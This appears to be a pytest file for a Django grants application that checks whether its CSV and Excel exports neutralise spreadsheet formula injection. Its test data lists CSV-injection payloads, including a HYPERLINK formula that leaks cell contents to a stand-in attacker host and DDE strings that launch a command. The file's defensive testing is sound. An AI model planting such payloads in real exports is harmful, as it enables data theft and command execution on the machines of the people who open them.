"""Every export writes user text as inert text (OWASP CSV injection): a project title,
an agreement's title, a milestone's title, a status report's text, a cost category and a
funding source that begin with «=», «+», «-», «@», a tab or a carriage return come out of
every CSV with a leading apostrophe, and out of every .xlsx as a string cell holding the
text as written, never a formula."""

import csv
import datetime
import io

import pytest
from openpyxl import load_workbook

from accounts.models import User
from agreements.models import Agreement, CostCategory
from evaluations.models import Milestone
from ilag.exports import FORMULA_STARTS, csv_value
from municipalities.models import Organisation
from payouts.models import Payout
from projects.models import ProgressReport, Project

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://angriper.example/?d="&A1,"klikk")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def planted(client, demo_for_module):
    """The demo, with user text beginning with every trigger planted where exports read it."""
    projects = list(
        Project.objects.filter(agreement__programme__slug="i-lag").order_by("pk")[: len(PAYLOADS)]
    )
    for project, payload in zip(projects, PAYLOADS, strict=True):
        Project.objects.filter(pk=project.pk).update(title=payload)
        ProgressReport.objects.filter(project=project).update(achieved=payload)
    # The project with a payout waiting to be paid carries a payload too.
    unpaid = Payout.objects.unpaid().filter(kind=Payout.Kind.PAYMENT).first()
    Project.objects.filter(pk=unpaid.project_id).update(title=PAYLOADS[0])
    agreement = Agreement.objects.filter(programme__slug="i-lag").first()
    Agreement.objects.filter(pk=agreement.pk).update(title=PAYLOADS[1], theme=PAYLOADS[2])
    Milestone.objects.filter(agreement=agreement).update(title=PAYLOADS[3])
    budget_project = projects[0]
    category = budget_project.budget_lines.first().category
    CostCategory.objects.filter(pk=category.pk).update(name=PAYLOADS[4])
    source = budget_project.funding_lines.exclude(source=None).first().source
    Organisation.objects.filter(pk=source.pk).update(name=PAYLOADS[5], short_name=PAYLOADS[5])
    client.force_login(User.objects.get(username="radgiver"))
    return {"client": client, "budget_project": budget_project}


EXPORTS = [
    "/prosjekter/?program=i-lag&eksport={fmt}",
    "/avtaler/?program=i-lag&eksport={fmt}",
    "/milepeler/?program=i-lag&eksport={fmt}",
    "/prosjekter/statusrapporter/?program=i-lag&eksport={fmt}",
    "/utbetalinger/eksport.{fmt}",
]


def content(response) -> bytes:
    if hasattr(response, "streaming_content"):
        return b"".join(response.streaming_content)
    return response.content


def csv_cells(response) -> list[str]:
    text = content(response).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def xlsx_cells(response) -> list:
    workbook = load_workbook(io.BytesIO(content(response)))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_csv_value_neutralises_every_trigger():
    for trigger in FORMULA_STARTS:
        assert csv_value(f"{trigger}1+1") == f"'{trigger}1+1"
    assert csv_value("Boliger i sentrum") == "Boliger i sentrum"
    assert csv_value(-50_000) == -50_000  # a number is a number
    # Dates as Norwegians write them, a moment in Oslo time.
    assert csv_value(datetime.date(2023, 11, 15)) == "15.11.2023"
    moment = datetime.datetime(2026, 11, 30, 23, 50, tzinfo=datetime.UTC)
    assert csv_value(moment) == "01.12.2026 00:50"


@pytest.mark.parametrize("url", EXPORTS)
def test_every_csv_export_writes_user_text_inert(planted, url):
    response = planted["client"].get(url.format(fmt="csv"))
    assert response.status_code == 200, url
    cells = csv_cells(response)
    found = [cell for cell in cells if any(p in cell for p in PAYLOADS)]
    assert found, f"{url}: none of the planted text is in the export"
    for cell in found:
        assert cell.startswith("'"), (url, cell)
        assert cell[1:] in PAYLOADS, (url, cell)
    assert not [c for c in cells if c in PAYLOADS], url  # never raw


@pytest.mark.parametrize("url", EXPORTS)
def test_every_xlsx_export_writes_user_text_as_strings(planted, url):
    response = planted["client"].get(url.format(fmt="xlsx"))
    assert response.status_code == 200, url
    cells = xlsx_cells(response)
    assert not [c.coordinate for c in cells if c.data_type == "f"], url
    found = [c for c in cells if isinstance(c.value, str) and c.value in PAYLOADS]
    assert found, f"{url}: none of the planted text is in the export"
    assert all(c.data_type == "s" for c in found), url


def test_budget_workbook_writes_titles_categories_and_sources_as_strings(planted):
    project = planted["budget_project"]
    response = planted["client"].get(f"/filer/prosjekter/{project.pk}/budsjett.xlsx")
    assert response.status_code == 200
    cells = xlsx_cells(response)
    # A carriage return may come back as a line feed (XML's line-end handling; openpyxl
    # with lxml, which the archive brought, writes it as &#13; and keeps it): compared
    # with both as line feeds.
    payloads = [p.replace("\r", "\n") for p in PAYLOADS]

    def text_of(cell):
        return cell.value.replace("\r", "\n")

    texts = [
        c for c in cells if isinstance(c.value, str) and any(p in text_of(c) for p in payloads)
    ]
    assert {p for p in payloads if any(p in text_of(c) for c in texts)} >= {
        payloads[0],
        payloads[4],
        payloads[5],
    }
    assert all(c.data_type == "s" for c in texts)
    # The only formulas are the workbook's own sums and share.
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert formulas and all(f.startswith(("=SUM(", "=IF(")) for f in formulas), formulas
